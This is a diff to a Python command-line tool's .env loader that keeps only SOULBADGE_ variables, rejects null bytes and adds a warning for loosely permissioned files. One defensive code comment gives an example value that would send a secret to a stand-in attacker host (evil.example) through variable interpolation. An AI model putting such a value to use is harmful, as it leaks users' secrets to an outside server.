@@ -109,14 +109,17 @@ def _load_dotenv() -> None:
         return
     from dotenv import dotenv_values
 
+    from soulbadge.forms.files import too_open
+
     # Not interpolated: SOULBADGE_RPC_URL=https://evil.example/${SECRET} would carry the secret away.
     try:
         found = dotenv_values(file, interpolate=False)
     except UnicodeDecodeError as error:
         raise click.ClickException(f"{file}: is no text in UTF-8; save it as UTF-8, or move it away") from error
-    for name, value in found.items():
-        if not name.startswith("SOULBADGE_") or value is None:
-            continue
+    ours = {name: value for name, value in found.items() if name.startswith("SOULBADGE_") and value is not None}
+    for name, value in ours.items():
         if "\0" in name + value:
             raise click.ClickException(f"{file}: a byte 0 stands in {name!r}; write the line again")
         os.environ.setdefault(name, value)
+    if any(ours.values()) and (problem := too_open(file)):
+        note(f"warning: {problem}")
